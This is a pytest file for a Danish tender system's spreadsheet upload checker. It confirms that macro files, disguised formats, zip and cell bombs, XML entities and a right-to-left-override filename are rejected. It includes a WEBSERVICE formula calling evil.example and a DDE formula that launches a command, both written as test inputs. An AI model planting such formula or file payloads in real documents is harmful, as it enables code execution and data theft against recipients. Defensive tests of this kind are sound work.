"""Spreadsheets that are to be read: what is not a form a person has filled in is turned away, quickly and in words."""

import io
import time
import zipfile
from pathlib import Path

import pytest
from openpyxl import Workbook

from itstart.documents.response_form_reader import read
from itstart.documents.uploads import Rejected, check_spreadsheet
from itstart.documents.uploads.grid import MAX_COLUMNS, MAX_ROWS, scan
from itstart.steps.tender.response_reading import read_form
from tests.documents.test_uploads import a_docx, a_pdf, an_xlsx, rebuilt
from tests.factories.response_cases import filled_form, small_case
from tests.factories.response_forms import changed, saved, set_answer

FORM = filled_form()
SHEET = "xl/worksheets/sheet1.xml"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
SAVED_BY_LIBREOFFICE = Path(__file__).parent / "files" / "saved_by_libreoffice.xlsx"


def cells(xml: str) -> bytes:
    """A workbook whose only sheet holds this."""
    space = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    body = f'<worksheet xmlns="{space}"><sheetData>{xml}</sheetData></worksheet>'
    return rebuilt(an_xlsx(), {SHEET: body.encode()})


def many_sheets(count: int) -> bytes:
    """A workbook of empty sheets."""
    book = Workbook()
    for _ in range(count - 1):
        book.create_sheet()
    return saved(book)


def with_part(name: str, content: bytes = b"x") -> bytes:
    """The form with one more part."""
    return rebuilt(FORM, {name: content})


VALUE = "<v>1</v>"
HOSTILE: dict[str, tuple[str, bytes, str]] = {
    "a csv": ("tilbud.csv", b"a;b", "csv"),
    "a csv renamed": ("tilbud.xlsx", b"Krav;Svar\nK-01;S\n", "hedder .xlsx"),
    "the old format": ("tilbud.xls", OLE, "gamle Excel-format"),
    "the old format renamed": ("tilbud.xlsx", OLE, "gammelt Office-format"),
    "LibreOffice's own": ("tilbud.ods", b"PK", "LibreOffices format"),
    "macros allowed": ("tilbud.xlsm", FORM, "makroer"),
    "the binary format": ("tilbud.xlsb", FORM, "binære format"),
    "a pdf": ("tilbud.pdf", a_pdf(), "pdf kan ikke læses"),
    "a pdf renamed": ("tilbud.xlsx", a_pdf(), "hedder .xlsx"),
    "a document": ("tilbud.docx", a_docx(), "ikke et Excel-ark"),
    "a document renamed": ("tilbud.xlsx", a_docx(), "indhold passer ikke"),
    "no extension": ("tilbud", FORM, "ikke et Excel-ark"),
    "a hidden direction": ("tilbud\u202excod.xlsx", FORM, "usynlige tegn"),
    "nothing": ("tilbud.xlsx", b"", "tom"),
    "a password": ("tilbud.xlsx", OLE + "EncryptedPackage".encode("utf-16-le"), "adgangskode"),
    "cut in half": ("tilbud.xlsx", FORM[: len(FORM) // 2], "passer ikke"),
    "something after": ("tilbud.xlsx", FORM + b"x" * 30, "passer ikke"),
    "a macro": ("tilbud.xlsx", with_part("xl/vbaProject.bin"), "makro"),
    "a link to another workbook": ("tilbud.xlsx", with_part("xl/externalLinks/externalLink1.xml", b"<a/>"), "udefra"),
    "a connection": ("tilbud.xlsx", with_part("xl/connections.xml", b"<a/>"), "udefra"),
    "an embedded object": ("tilbud.xlsx", with_part("xl/embeddings/oleObject1.bin"), "indlejret objekt"),
    "a program as a picture": ("tilbud.xlsx", with_part("xl/media/image1.png", b"MZ" + b"x" * 99), "indlejret objekt"),
    "a formula that fetches": ("tilbud.xlsx", an_xlsx('=WEBSERVICE("https://evil.example")'), "udefra"),
    "a formula that runs": ("tilbud.xlsx", an_xlsx("=cmd|'/c calc'!A1"), "udefra"),
    "a definition": ("tilbud.xlsx", rebuilt(FORM, {SHEET: b'<!DOCTYPE a [<!ENTITY b "c">]><a/>'}), "kan ikke læses"),
    "two far corners": (
        "tilbud.xlsx",
        cells(f'<row r="1"><c r="A1">{VALUE}</c></row><row r="1048576"><c r="XFD1048576">{VALUE}</c></row>'),
        "for mange celler",
    ),
    "a far column": ("tilbud.xlsx", cells(f'<row r="1"><c r="ZZ1">{VALUE}</c></row>'), "for mange celler"),
    "too many rows": ("tilbud.xlsx", cells(f"<row><c>{VALUE}</c></row>" * (MAX_ROWS + 1)), "for mange celler"),
    "too many cells in a row": (
        "tilbud.xlsx", cells(f"<row>{f'<c>{VALUE}</c>' * (MAX_COLUMNS + 1)}</row>"), "for mange celler"
    ),
    "too many sheets": ("tilbud.xlsx", many_sheets(41), "for mange celler"),
    "a bomb of texts": (
        "tilbud.xlsx", with_part("xl/sharedStrings.xml", b"<a>" + b" " * 13_000_000 + b"</a>"), "for mange celler"
    ),
    "a bomb of parts": (
        "tilbud.xlsx",
        rebuilt(FORM, {f"xl/big{number}.xml": b"<a>" + b" " * 9_000_000 + b"</a>" for number in range(5)}),
        "for mange celler",
    ),
}  # fmt: skip


@pytest.mark.parametrize("what", HOSTILE)
def test_what_is_not_a_filled_in_form_is_turned_away(what: str) -> None:
    name, content, words = HOSTILE[what]
    began = time.process_time()
    with pytest.raises(Rejected) as refusal:
        check_spreadsheet(name, content)

    assert words in str(refusal.value)
    assert str(refusal.value).endswith(".")
    assert time.process_time() - began < 1


def test_a_form_is_taken_whatever_it_is_called() -> None:
    check_spreadsheet("Kopi af kopi (2).XLSX", FORM)


def test_empty_cells_far_away_do_no_harm() -> None:
    check_spreadsheet("a.xlsx", cells('<row r="1048576"><c r="XFD1048576" s="0"/></row>'))


def test_a_workbook_that_is_no_form_says_nothing() -> None:
    assert read(an_xlsx()).rows == {}
    assert {doubt.code for doubt in read_form(small_case(), read(an_xlsx())).doubts} == {"not_a_form"}


def test_a_sheet_without_its_part_is_not_read() -> None:
    with pytest.raises(Rejected):
        scan(rebuilt(FORM, {"xl/_rels/workbook.xml.rels": None}))


def test_formulas_are_found_where_they_stand() -> None:
    content = changed(FORM, lambda book: set_answer(book, "K-01", extra="=1+1"))

    assert scan(content).formulas["Kravbesvarelse"] == {(4, 8)}


def test_a_form_saved_by_libreoffice_is_read_as_it_was_written() -> None:
    content = SAVED_BY_LIBREOFFICE.read_bytes()
    check_spreadsheet("tilbud.xlsx", content)
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        assert b"LibreOffice" in package.read("docProps/app.xml")
    theirs, ours = read_form(small_case(), read(content)), read_form(small_case(), read(FORM))

    assert theirs.doubts == []
    assert (theirs.answers, theirs.lines, theirs.bid) == (ours.answers, ours.lines, ours.bid)
